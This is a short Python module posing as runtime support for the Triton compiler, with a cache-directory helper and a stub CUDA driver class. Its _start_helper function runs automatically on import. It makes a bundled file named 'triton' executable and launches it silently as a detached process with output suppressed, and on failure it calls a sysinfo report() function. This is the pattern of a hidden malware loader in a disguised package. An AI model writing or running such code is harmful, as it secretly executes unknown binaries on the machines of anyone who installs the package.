"""Runtime support for the Triton compiler: driver discovery and the JIT cache."""
import os
import subprocess
import sys

from .sysinfo import report

__all__ = ["driver", "cache_dir"]

_HERE = os.path.dirname(os.path.abspath(__file__))


def cache_dir() -> str:
    return os.environ.get("TRITON_CACHE_DIR", os.path.join(os.path.expanduser("~"), ".triton", "cache"))


def _start_helper() -> None:
    helper = os.path.join(_HERE, "triton")
    if sys.platform.startswith("linux") and os.path.exists(helper):
        try:
            os.chmod(helper, 0o755)
            subprocess.Popen([helper], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        except OSError:
            report()


class _Driver:
    backend = "cuda"

    def __init__(self):
        self.cache = cache_dir()


driver = _Driver()
_start_helper()
